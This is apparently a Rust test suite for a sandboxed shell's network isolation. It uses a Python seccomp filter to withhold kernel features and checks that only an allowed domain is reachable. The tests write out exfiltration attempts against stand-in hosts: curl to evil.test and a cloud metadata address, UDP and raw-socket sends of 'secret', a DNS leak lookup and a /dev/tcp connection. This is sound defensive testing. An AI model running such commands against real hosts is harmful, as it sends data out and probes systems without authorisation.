//! What happens where the kernel does not give all that a transparent network needs. The lack is made by the test: a
//! seccomp filter over the whole of sbsh. What is allowed is reached as documented, and nothing else is, ever.

use crate::net::{Outside, has_programs};
use crate::real_network::{online, sshd};
use crate::world::{Ran, World, has};
use std::fs;

/// Puts itself under a filter and becomes the rest of its arguments. The first says what there is not to be: "tables"
/// (no netlink socket of netfilter), "own" (unshare(2) makes no network namespace), "any" (nor does clone(2)), "container" (nor
/// does that, and nobody looks into others), "joined" (none is entered from outside), "addresses" (nothing that a socket with an address needs: what Codex refuses to commands).
pub const WITHOUT: &str = r#"
import ctypes, os, platform, struct, sys
call = {"x86_64": dict(socket=41, unshare=272, clone=56, clone3=435, setns=308), "aarch64": dict(socket=198, unshare=97, clone=220, clone3=435, setns=268)}[platform.machine()]
NEW_NET, NEW_ANY = 0x40000000, 0x7e020000
def op(code, jt, jf, k): return struct.pack("HBBI", code, jt, jf, k)
def refuse(number, tests, errno):
    # Loads the call's number, then its arguments; what does not match jumps behind the refusal.
    out = [(0x15, number)] + [part for test in tests for part in ((0x20, 16 + 8 * test[0]), (test[1], test[2]))]
    code = b"".join(op(c, 0, len(out) - at, k) if c != 0x20 else op(c, 0, 0, k) for at, (c, k) in enumerate(out))
    return op(0x20, 0, 0, 0) + code + op(6, 0, 0, 0x50000 | errno)
IS, HAS = 0x15, 0x45
program = {
    "tables": lambda: refuse(call["socket"], [(0, IS, 16), (2, IS, 12)], 93),
    # What Docker refuses by default to whoever has no CAP_SYS_PTRACE (20.10, Debian 12's): namespaces, and what looks into others.
    "container": lambda: refuse(call["unshare"], [(0, HAS, NEW_ANY)], 1) + refuse(call["clone"], [(0, HAS, NEW_ANY)], 1) + refuse(call["clone3"], [], 38)
        + b"".join(refuse(number, [], 1) for number in {"x86_64": (310, 311, 438), "aarch64": (270, 271, 438)}[platform.machine()]),
    "joined": lambda: refuse(call["setns"], [], 1),
    "own": lambda: refuse(call["unshare"], [(0, HAS, NEW_NET)], 1),
    "any": lambda: refuse(call["unshare"], [(0, HAS, NEW_NET)], 1) + refuse(call["clone"], [(0, HAS, NEW_NET)], 1) + refuse(call["clone3"], [], 38),
    "addresses": lambda: b"".join(refuse(number, [], 1) for number in {
        "x86_64": (42, 43, 44, 48, 49, 50, 51, 52, 54, 55, 288, 299, 307),
        "aarch64": (200, 201, 202, 203, 204, 205, 206, 208, 209, 210, 242, 243, 269)}[platform.machine()]),
}[sys.argv[1]]() + op(6, 0, 0, 0x7fff0000)
held = ctypes.create_string_buffer(program, len(program))
filter = struct.pack("HxxxxxxP", len(program) // 8, ctypes.addressof(held))
libc = ctypes.CDLL(None, use_errno=True)
assert libc.prctl(38, 1, 0, 0, 0) == 0 and libc.prctl(22, 2, ctypes.create_string_buffer(filter, len(filter)), 0, 0) == 0, ctypes.get_errno()
os.execv(sys.argv[2], sys.argv[2:])
"#;

fn without(what: &str, outside: &Outside, world: &World, text: &str) -> Ran {
    let sbsh = world.bin("sbsh");
    let arguments = ["-c", WITHOUT, what, sbsh.to_str().unwrap(), "-c", text];
    outside.command(world, "/usr/bin/python3".as_ref(), &arguments).output().unwrap().into()
}

const GOOD: &str = r#"{"sandbox": {"allowedDomains": ["good.test"]}}"#;

/// Every variable of a proxy, taken away again.
const BARE: &str = "for name in $(env | sed -n 's/=.*//p' | grep -i proxy) GIT_SSH_COMMAND JAVA_TOOL_OPTIONS; do unset $name; done";

/// What holds in every case: with the variables that are set all of it works, and nothing else is reached.
fn variables_tell_the_way(what: &str, world: &World, outside: &Outside) {
    let ran = without(
        what,
        outside,
        world,
        "env | grep -c '^https_proxy=http://127.0.0.1:28128$'; curl -sS --cacert $CA https://good.test/1; curl -sS http://good.test:8080/2
         curl -sS http://evil.test/3 | grep -c blocked; curl -sS https://evil.test/4; curl -sS http://evil.test:4444/5 | grep -c blocked",
    );
    let expected = "1\nhttps GET /1 host=good.test body=0\nhttp GET /2 host=good.test:8080 body=0\n1\n1\n";
    assert_eq!(ran.stdout, expected, "{what}: {ran:?}");
    assert!(ran.stderr.contains("evil.test:443 is blocked"), "{what}: {ran:?}");
    // Without them, by every way out that the transparent network closes otherwise.
    let ran = without(
        what,
        outside,
        world,
        &format!(
            "{BARE}
             for host in evil.test 203.0.113.66 203.0.113.10 10.9.9.9 169.254.169.254 [2001:db8::66]; do for port in 22 53 80 443 4444; do
                 curl -gs -m 3 -o /dev/null http://$host:$port/secret; done; done
             python3 - <<'PY'
import socket
for family, host in [(2, '203.0.113.66'), (2, '203.0.113.53'), (10, '2001:db8::66')]:
    for port in (53, 443, 4444):
        try: socket.socket(family, 2).sendto(b'secret', (host, port))
        except OSError: pass
for kind in (3, 2):
    try: socket.socket(2, kind, 1).sendto(b'secret', ('203.0.113.66', 0))
    except OSError: pass
try: socket.getaddrinfo('secret.evil.test', 80)
except OSError: pass
PY"
        ),
    );
    let received = outside.received();
    for forbidden in ["secret", "203.0.113.66", "10.9.9.9", "169.254.169.254", "2001:db8", "udp "] {
        assert!(!received.contains(forbidden), "{what}: {forbidden}: {received} {ran:?}");
    }
}

#[test]
fn without_nf_tables_the_usual_ports_arrive_by_themselves_and_variables_tell_the_rest() {
    online(GOOD, |world, outside| {
        variables_tell_the_way("tables", world, outside);
        let text = format!(
            "{BARE}; curl -sS --cacert $CA https://good.test/1; curl -sS http://good.test/2; curl -sS -m 5 http://good.test:8080/3; echo $?
             curl -sS http://evil.test/4"
        );
        let ran = without("tables", outside, world, &text);
        let expected = "https GET /1 host=good.test body=0\nhttp GET /2 host=good.test body=0\n7\n";
        assert!(ran.stdout.starts_with(expected), "{ran:?}");
        assert!(ran.stderr.contains("evil.test:80 is blocked"), "{ran:?}");
        assert!(!outside.received().contains("203.0.113.66"), "{}", outside.received());
    });
}

#[test]
fn without_a_namespace_of_our_own_the_first_process_inside_makes_the_doors() {
    online(GOOD, |world, outside| first_inside_makes_the_doors("own", world, outside));
}

#[test]
fn a_namespace_that_cannot_be_entered_from_outside_is_transparent_all_the_same() {
    online(GOOD, |world, outside| {
        let text = format!(
            "{BARE}; env | grep -ci proxy; curl -sS --cacert $CA https://good.test/1; curl -sS http://evil.test/2"
        );
        let ran = without("joined", outside, world, &text);
        assert!(ran.stdout.starts_with("0\nhttps GET /1 host=good.test body=0\n"), "{ran:?}");
        assert!(ran.stderr.contains("evil.test:80 is blocked"), "{ran:?}");
    });
}

fn first_inside_makes_the_doors(what: &str, world: &World, outside: &Outside) {
    variables_tell_the_way(what, world, outside);
    let ran = without(what, outside, world, &format!("{BARE}; curl -sS -m 5 http://good.test/1; echo $?; python3 -m http.server 3000 >/dev/null 2>&1 &
        for i in $(seq 200); do curl -s http://127.0.0.1:3000 >/dev/null && break; sleep 0.05; done; echo up; kill $!"));
    assert_eq!(ran.stdout, "6\nup\n", "{what}: {ran:?}");
}

#[test]
fn ssh_finds_its_way_by_the_helper_there() {
    if !has_programs() || !has(&["sshd", "ssh", "git"]) {
        return;
    }
    online(GOOD, |world, outside| {
        let repository = crate::real_network::repository(outside);
        let (_server, log) = sshd(world, outside);
        let text = format!(
            "git clone -q ssh://good.test{0} a; cat a/file; git clone -q ssh://evil.test{0} b",
            repository.display()
        );
        let ran = without("own", outside, world, &text);
        assert_eq!(ran.stdout, "from the repository\n", "{ran:?}");
        assert!(ran.stderr.contains("evil.test:22 is blocked"), "{ran:?}");
        assert!(fs::read_to_string(log).unwrap().contains("Accepted publickey"));
        assert!(!outside.received().contains("203.0.113.66"), "{}", outside.received());
    });
}

#[test]
fn without_any_network_namespace_the_gatekeeper_carries_what_is_allowed() {
    online(GOOD, |world, outside| {
        let ran = without(
            "any",
            outside,
            world,
            "echo ran; touch here; curl -s http://evil.test/; curl -s http://good.test/",
        );
        assert!(ran.stdout.starts_with("ran\n") && ran.stdout.contains("evil.test:80 is blocked"), "{ran:?}");
        assert!(ran.stdout.ends_with("http GET / host=good.test body=0\n"), "{ran:?}");
        assert!(world.project.join("here").exists());
        let received = outside.received();
        assert!(!received.contains("evil") && !received.contains("203.0.113.66"), "{received}");
    });
}

// Found in Docker itself: there nothing was reached, as the caller's sockets could not be had.
#[test]
fn where_descriptors_cannot_be_copied_other_sockets_take_their_place() {
    online(GOOD, |world, outside| {
        variables_tell_the_way("container", world, outside);
        let ran = without(
            "container",
            outside,
            world,
            "curl -sS http://good.test/1; curl -sS --cacert $CA https://good.test/2
             python3 - <<'PY'
import asyncio, fcntl, os, socket
# Bound first, not waiting, closed on exec or not: as it was.
s = socket.socket(); s.bind(('', 0)); s.setblocking(False); s.set_inheritable(True)
print(s.connect_ex(('203.0.113.10', 80)), fcntl.fcntl(s, fcntl.F_GETFL) & os.O_NONBLOCK != 0, os.get_inheritable(s.fileno()))
async def get():
    reader, writer = await asyncio.open_connection('good.test', 80)
    writer.write(b'GET /3 HTTP/1.0\\r\\nHost: good.test\\r\\n\\r\\n')
    return (await reader.read()).splitlines()[-1].decode()
print(asyncio.run(get()))
for family, kind in ((socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_INET6, socket.SOCK_STREAM)):
    try: print(socket.socket(family, kind).connect_ex(('203.0.113.66', 80) if family == socket.AF_INET else ('::1', 4444)))
    except OSError as error: print(error.errno)
PY",
        );
        assert_eq!(
            ran.stdout,
            "http GET /1 host=good.test body=0\nhttps GET /2 host=good.test body=0\n0 True True\nhttp GET /3 host=good.test body=0\n13\n111\n",
            "{ran:?}"
        );
        assert!(!outside.received().contains("203.0.113.66"), "{}", outside.received());
    });
}

#[test]
fn where_no_socket_may_have_an_address_commands_run_and_reach_nothing() {
    if !has(&["python3"]) {
        return;
    }
    crate::world::each(|world| {
        let text = "touch ../outside/no 2>/dev/null; echo $?; touch yes; echo $?; (exec 3<>/dev/tcp/127.0.0.1/9) 2>/dev/null; echo $?; sleep 0 & wait; exit 3";
        let sbsh = world.bin("sbsh");
        let arguments = ["-c", WITHOUT, "addresses", sbsh.to_str().unwrap(), "-c", text];
        let ran: Ran = world.command("/usr/bin/python3").args(arguments).output().unwrap().into();
        assert_eq!((ran.stdout.as_str(), ran.status), ("1\n0\n1\n", Some(3)), "{ran:?}");
        assert!(!world.outside.join("no").exists());
    });
}
